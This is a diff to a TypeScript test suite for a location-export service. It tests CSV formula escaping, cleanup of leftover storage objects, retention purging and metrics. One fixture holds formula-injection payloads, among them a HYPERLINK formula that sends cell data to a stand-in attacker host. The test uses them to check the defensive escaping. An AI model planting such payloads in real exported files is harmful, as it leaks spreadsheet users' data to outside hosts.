@@ -10,8 +10,11 @@ import {
   type Location,
   validate,
 } from '@lx/contracts';
+import { exportObjectKey } from '@lx/domain';
 import { aLocation } from '@lx/domain/testing';
+import { ObjectStore } from '@lx/storage';
 import { waitFor } from '@lx/testing';
+import { Readable } from 'node:stream';
 import { PurgeExpiredExportsSchedule } from '../../src/export/retention/purge-expired-exports.schedule';
 import {
   type ExportWorkerHarness,
@@ -83,6 +86,19 @@ describe('exports', () => {
 
   const create = (body: unknown, options: { clientId?: string; headers?: Record<string, string> } = {}) =>
     service.request('POST', '/locations/exports', { body, ...options });
+
+  /** Writes an object as an attempt of the request would (a stand-in for one whose replica died after its upload). */
+  const leaveObject = (key: string) =>
+    service.app.get(ObjectStore).put(key, Readable.from(['left by a dead attempt']), { contentType: 'text/plain' });
+  /** Whether the bucket holds `key`: a download through a fresh link (MinIO answers 404 for a missing object). */
+  const objectExists = async (key: string) => {
+    const link = await service.app
+      .get(ObjectStore)
+      .presignGet(key, { expiresInSeconds: 60, filename: 'x', contentType: 'text/plain', now: new Date() });
+    const { response } = await download(link.url);
+    if (response.status !== 200 && response.status !== 404) throw new Error(`MinIO answered ${response.status}`);
+    return response.status === 200;
+  };
 
   describe('round trips', () => {
     it('json: 202 with Location, then COMPLETED with a signed link to the exact locations, and EXPORT_COMPLETED', async () => {
@@ -278,6 +294,53 @@ describe('exports', () => {
       }
     });
 
+    it('csv with spreadsheetSafe: formula cells get a leading apostrophe, numbers and the default file stay exact', async () => {
+      const formulas = aLocation({
+        id: randomUUID(),
+        updatedAt: '2024-03-01T13:00:00.000Z',
+        notes: '=HYPERLINK("http://attacker.invalid/?"&A1, "Click")',
+        coordinates: { latitude: -33.8688, longitude: 151.2093 },
+        fiberAccessDetails: { circuitId: '@SUM(1+1)', fda: '-2+3+cmd', dropStatus: 'TEMP_DROP' },
+      });
+      service.peers.locations.push(formulas);
+      const cellsOf = async (done: Json) => {
+        const parsed: string[][] = parse((await download(done.exportUrl)).bytes.toString('utf8'));
+        const [header, ...rows] = parsed;
+        const row = rows.find((cells) => cells[0] === formulas.id)!;
+        return (name: string) => row[header!.indexOf(name)];
+      };
+      try {
+        const accepted = await create({ format: 'csv', spreadsheetSafe: true, modifiedSince: '2024-03-01T12:30:00Z' });
+        expect(accepted.status).toBe(202);
+        const safe = await service.settled(accepted.body.requestId);
+        expect(safe).toMatchObject({ status: 'COMPLETED', format: 'csv', spreadsheetSafe: true, totalCount: 1 });
+        expect(validate(exportStatusReplySchema, safe).ok).toBe(true);
+        const safeCell = await cellsOf(safe);
+        expect(safeCell('notes')).toBe(`'${formulas.notes}`);
+        expect(safeCell('fiberAccessDetails.circuitId')).toBe("'@SUM(1+1)");
+        expect(safeCell('fiberAccessDetails.fda')).toBe("'-2+3+cmd");
+        expect([safeCell('coordinates.latitude'), safeCell('coordinates.longitude')]).toEqual(['-33.8688', '151.2093']);
+        expect(safeCell('fiberAccessDetails.dropStatus')).toBe('TEMP_DROP');
+
+        // The default file is the exact copy: every cell as stored.
+        const exact = await service.settled((await create({ format: 'csv', spreadsheetSafe: false })).body.requestId);
+        expect(exact).not.toHaveProperty('spreadsheetSafe');
+        const exactCell = await cellsOf(exact);
+        expect(exactCell('notes')).toBe(formulas.notes);
+        expect(exactCell('fiberAccessDetails.circuitId')).toBe('@SUM(1+1)');
+        const { rows } = await service.db.query(
+          'SELECT id::text, spreadsheet_safe FROM export_requests WHERE id = ANY($1::uuid[]) ORDER BY created_at',
+          [[safe.requestId, exact.requestId]],
+        );
+        expect(rows).toEqual([
+          { id: safe.requestId, spreadsheet_safe: true },
+          { id: exact.requestId, spreadsheet_safe: false },
+        ]);
+      } finally {
+        service.peers.locations.splice(service.peers.locations.indexOf(formulas), 1);
+      }
+    });
+
     it('modifiedSince and filters.locationGroupId select exactly the matching locations', async () => {
       const since = '2024-03-01T10:02:00.000Z';
       const done = await service.settled(
@@ -302,6 +365,8 @@ describe('exports', () => {
       [{ format: 'json', filters: { locationGroupId: 'nope' } }, 'VALIDATION_ERROR', 'filters.locationGroupId'],
       [{ format: 'csv', includeVersions: true }, 'VALIDATION_ERROR', 'includeVersions'],
       [{ format: 'json', includeVersions: 'yes' }, 'VALIDATION_ERROR', 'includeVersions'],
+      [{ format: 'json', spreadsheetSafe: true }, 'VALIDATION_ERROR', 'spreadsheetSafe'],
+      [{ format: 'csv', spreadsheetSafe: 1 }, 'VALIDATION_ERROR', 'spreadsheetSafe'],
       [
         { format: 'json', filters: { locationGroupId: randomUUID() } },
         'INVALID_GROUP_REFERENCE',
@@ -394,7 +459,13 @@ describe('exports', () => {
       );
       expect(rows[0].n).toBe(1);
       // The key belongs to its client: another client may use the same one.
-      expect((await create({ format: 'csv' }, { clientId: 'rsp-idem-2', headers })).status).toBe(202);
+      const other = await create({ format: 'csv' }, { clientId: 'rsp-idem-2', headers });
+      expect(other.status).toBe(202);
+      // So is spreadsheetSafe, alike.
+      const safe = await create({ format: 'csv', spreadsheetSafe: true }, { clientId: 'rsp-idem-2', headers });
+      expect(safe.status).toBe(409);
+      const plain = await create({ format: 'csv', spreadsheetSafe: false }, { clientId: 'rsp-idem-2', headers });
+      expect(plain.body).toEqual(other.body);
     });
   });
 
@@ -458,8 +529,11 @@ describe('exports', () => {
       expect(rows[0].attempts).toBe(1);
     });
 
-    it('a request whose lease lapsed (its replica died) is taken over and completed once', async () => {
+    it('a request whose lease lapsed (its replica died) is taken over and completed once, its first object removed', async () => {
       const id = randomUUID();
+      const deadAttempt = exportObjectKey({ id, clientId: 'rsp-crash', format: 'json' }, 1);
+      await leaveObject(deadAttempt);
+      expect(await objectExists(deadAttempt)).toBe(true);
       await service.db.query(
         `INSERT INTO export_requests (id, client_id, format, status, attempts, request_hash, lease_owner,
            lease_expires_at, next_attempt_at, created_at, updated_at)
@@ -472,6 +546,26 @@ describe('exports', () => {
       expect(rows[0]).toEqual({ attempts: 2, lease_owner: null });
       await service.events.waitFor(1, [id]);
       expect(service.events.of(id)).toHaveLength(1);
+      // Removed after the commit that made the status COMPLETED: awaited, not assumed.
+      await waitFor("the dead attempt's object removed", async () => !(await objectExists(deadAttempt)));
+      expect(await objectExists(exportObjectKey({ id, clientId: 'rsp-crash', format: 'json' }, 2))).toBe(true);
+    });
+
+    it('a request whose last attempt fails removes the object an earlier, dead attempt left', async () => {
+      const id = randomUUID();
+      const modifiedSince = '2001-01-01T00:00:04.000Z';
+      service.peers.failingSnapshots.set(modifiedSince, 1);
+      const deadAttempt = exportObjectKey({ id, clientId: 'rsp-crash-fail', format: 'csv' }, 1);
+      await leaveObject(deadAttempt);
+      await service.db.query(
+        `INSERT INTO export_requests (id, client_id, format, modified_since, status, attempts, request_hash, lease_owner,
+           lease_expires_at, next_attempt_at, created_at, updated_at)
+         VALUES ($1, 'rsp-crash-fail', 'csv', $2, 'PENDING', 1, 'h', 'dead-replica', now() - interval '1 second', now(),
+           now(), now())`,
+        [id, modifiedSince],
+      );
+      expect((await service.settled(id, 'rsp-crash-fail')).status).toBe('FAILED');
+      await waitFor("the dead attempt's object removed", async () => !(await objectExists(deadAttempt)));
     });
 
     it('a request leased by a live replica is left alone until its lease lapses', async () => {
@@ -510,6 +604,53 @@ describe('exports', () => {
       const refused = await service.request('POST', `/locations/exports/${requestId}/link`, { clientId: 'rsp-link' });
       expect(refused.status).toBe(404);
       expect(refused.body.error.message).toContain('expired');
+    });
+
+    it('after retention, what the attempts of a FAILED export left is deleted; a recent one is kept', async () => {
+      const failed = async (daysAgo: number) => {
+        const id = randomUUID();
+        const keys = [1, 2].map((attempt) => exportObjectKey({ id, clientId: 'rsp-gone', format: 'json' }, attempt));
+        for (const key of keys) await leaveObject(key);
+        await service.db.query(
+          `INSERT INTO export_requests (id, client_id, format, status, attempts, request_hash, error_code, error_message,
+             next_attempt_at, created_at, updated_at)
+           VALUES ($1, 'rsp-gone', 'json', 'FAILED', 2, 'h', 'EXPORT_GENERATION_FAILED', 'failed', now(), now(),
+             now() - make_interval(days => $2))`,
+          [id, daysAgo],
+        );
+        return { id, keys };
+      };
+      const old = await failed(8);
+      const recent = await failed(6);
+      await service.app.get(PurgeExpiredExportsSchedule).execute();
+      expect(await Promise.all(old.keys.map(objectExists))).toEqual([false, false]);
+      expect(await Promise.all(recent.keys.map(objectExists))).toEqual([true, true]);
+      const { rows } = await service.db.query(
+        'SELECT id::text, file_deleted_at IS NOT NULL AS purged FROM export_requests WHERE id = ANY($1::uuid[])',
+        [[old.id, recent.id]],
+      );
+      expect(rows).toEqual(
+        expect.arrayContaining([
+          { id: old.id, purged: true },
+          { id: recent.id, purged: false },
+        ]),
+      );
+      // The FAILED reply is unchanged by it.
+      const status = await service.request('GET', `/locations/exports/${old.id}`, { clientId: 'rsp-gone' });
+      expect(status.body).toMatchObject({ status: 'FAILED', error: { code: 'EXPORT_GENERATION_FAILED' } });
+    });
+
+    it('/metrics shows the size and estimated rows of each table of the schema', async () => {
+      await service.db.query('ANALYZE export_requests');
+      const metrics = await service.app.getHttpAdapter().getInstance().inject({ method: 'GET', url: '/metrics' });
+      expect(metrics.statusCode).toBe(200);
+      const value = (name: string, table: string) =>
+        Number(new RegExp(`^${name}\\{table="${table}"\\} (\\d+)`, 'm').exec(metrics.body)?.[1] ?? NaN);
+      for (const table of ['export_requests', 'outbox', 'export_rate_windows', 'migrations']) {
+        expect(value('db_table_size_bytes', table)).toBeGreaterThan(0);
+      }
+      const { rows } = await service.db.query('SELECT count(*)::int AS n FROM export_requests');
+      expect(value('db_table_rows_estimate', 'export_requests')).toBe(rows[0].n);
     });
 
     it('a link of a PENDING or FAILED export is 409', async () => {
